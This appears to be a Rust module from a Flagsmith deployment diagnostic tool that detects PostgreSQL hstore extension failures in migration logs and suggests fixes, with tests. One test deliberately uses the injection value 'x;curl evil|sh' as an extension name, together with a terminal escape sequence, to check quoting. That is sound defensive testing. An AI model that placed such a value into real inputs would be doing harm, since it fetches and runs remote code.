//! A PostgreSQL extension cannot be created.

use crate::{
    causes::{
        log::{
            failure::quoted_after,
            phrasing::{at_migration, progress},
        },
        migrations::shared::preflight::before_migration,
        prelude::*,
    },
    flagsmith::upgrades,
    migration::Step,
    postgres::sql::identifier,
};

pub(crate) static CAUSE: Cause = Cause {
    blocks_migration: true,
    explains: consequences::OF_STOPPED_MIGRATION,
    log: &[&LOG],
    check: Some(check),
    ..Cause::critical(Component::Migrations, include_str!("extension_unavailable.md"))
};

/// The extension of Flagsmith's migrations, where a message names none.
const HSTORE: &str = "hstore";

/// Why it cannot be used.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Variant {
    /// The role may not create it.
    Denied,
    /// The server does not have it, or does not allow it.
    Absent,
    /// It is not created in this database.
    Inactive,
}

static LOG: Rule<Variant> = Rule {
    precedence: 420,
    signatures: &[
        Signature::of_words(Variant::Denied, &["permission denied to create extension"]),
        Signature::of(Variant::Absent)
            .any(&[
                "could not open extension control file",
                "is not available",
                "allow-listed",
                "allowlisted",
                "whitelisted",
            ])
            .all(&["xtension"]),
        Signature::of_words(Variant::Inactive, &["type \"hstore\" does not exist", "hstore type not found"]),
    ],
    details,
    explain,
    is_over: None,
};

#[allow(clippy::unnecessary_wraps, reason = "the form of every rule: others decline")]
fn details(failure: &Failure<'_>, variant: Variant) -> Option<FailureDetails> {
    // `could not open extension control file "/usr/share/postgresql/15/extension/hstore.control"`
    let file = failure
        .message
        .split_once(".control")
        .and_then(|(before, _)| before.rsplit('/').next())
        .filter(|_| variant == Variant::Absent);
    let name = file.or_else(|| quoted_after(failure.message, &["extension ", "type "]));
    Some(FailureDetails::default().object(name.unwrap_or(HSTORE)))
}

fn explain(evidence: &LogEvidence, occurrence: &Occurrence, variant: Variant) -> Explanation {
    let at = at_migration(evidence, occurrence);
    let name = occurrence.details.object.as_deref().unwrap_or(HSTORE);
    let what = match variant {
        Variant::Denied => format!("its database role may not create the PostgreSQL extension {name}"),
        Variant::Absent => {
            format!("the database server does not have the PostgreSQL extension {name}, or does not allow it")
        }
        Variant::Inactive => format!("the PostgreSQL extension {name} is not active in this database"),
    };
    Explanation::new(
        Code::MigrationExtensionUnavailable,
        format!(
            "The migration stopped{at}: {what}. Flagsmith needs hstore from 2.188.0 to 2.223.x only; 2.224.0 and later need no \
             extension.{}",
            progress(evidence, occurrence)
        ),
        format!("{} Then migrate again.", remedy(name, variant)),
    )
}

fn remedy(extension: &str, variant: Variant) -> String {
    let name = identifier(extension, "EXTENSION");
    let create =
        format!("As a superuser or the owner of the database, once: CREATE EXTENSION IF NOT EXISTS {name};");
    match variant {
        Variant::Denied => format!("{create} or GRANT CREATE ON DATABASE NAME TO ROLE;"),
        Variant::Absent => format!(
            "Install PostgreSQL's contrib package on the server, or allow {extension} in the managed database's settings (Azure: \
             azure.extensions)."
        ),
        Variant::Inactive => create,
    }
}

/// A role that may not create what the release's migrations create.
fn check(context: &Context<'_>) -> Vec<Draft> {
    let step = Step::of(context.installation, context.observation);
    let mut left = step.iter().flat_map(Step::stops_left).map(|stop| stop.release);
    let needs = left.find(|release| upgrades::needs_hstore(*release));
    let refused = before_migration(context)
        .zip(needs)
        .filter(|(preflight, _)| !preflight.hstore && !preflight.creates_extensions);
    let diagnosis = refused.map(|(preflight, release)| Draft {
        message: format!(
            "Flagsmith {release} creates the extension hstore, which role \"{}\" may not.",
            preflight.role
        ),
        evidence: vec![format!(
            "database: hstore is not installed, and \"{}\" has no CREATE on the database",
            preflight.role
        )],
        remedy: format!(
            "{} Or set spec.version to 2.224.0 or later, which does not need it.",
            remedy(HSTORE, Variant::Denied)
        ),
        ..Code::MigrationExtensionUnavailable.draft()
    });
    diagnosis.into_iter().collect()
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use crate::{
        causes::{
            diagnose_log,
            log::{failure::Stage, testing::recognise},
        },
        model::{Code::MigrationExtensionUnavailable, Component},
    };

    #[rstest]
    #[case(
        "psycopg2.errors.UndefinedFile",
        "could not open extension control file \"/usr/share/postgresql/15/extension/hstore.control\": No such file or directory",
        "hstore"
    )]
    #[case(
        "psycopg2.errors.FeatureNotSupported",
        "extension \"hstore\" is not available\nDETAIL:  Could not open extension control file \"/x/hstore.control\": No such file.",
        "hstore"
    )]
    #[case("psycopg2.errors.UndefinedObject", "type \"hstore\" does not exist", "hstore")]
    fn extensions(#[case] class: &str, #[case] message: &str, #[case] name: &str) {
        let (code, details) = recognise(Stage::Migrate, class, message).unwrap();
        assert_eq!((code, details.object.as_deref()), (MigrationExtensionUnavailable, Some(name)));
    }

    #[rstest]
    #[case("uuid-ossp", "CREATE EXTENSION IF NOT EXISTS \"uuid-ossp\";")]
    #[case("x;curl evil|sh", "CREATE EXTENSION IF NOT EXISTS \"x;curl evil|sh\";")]
    #[case("x\u{1b}[2J", "CREATE EXTENSION IF NOT EXISTS x;")]
    fn names_are_quoted(#[case] name: &str, #[case] expected: &str) {
        let log = format!(
            "psycopg2.errors.InsufficientPrivilege: permission denied to create extension \"{name}\"\n"
        );
        let found = diagnose_log(Component::Migrations, None, "log", log.as_bytes());
        assert!(found[0].1.remedy.contains(expected), "{}", found[0].1.remedy);
    }
}
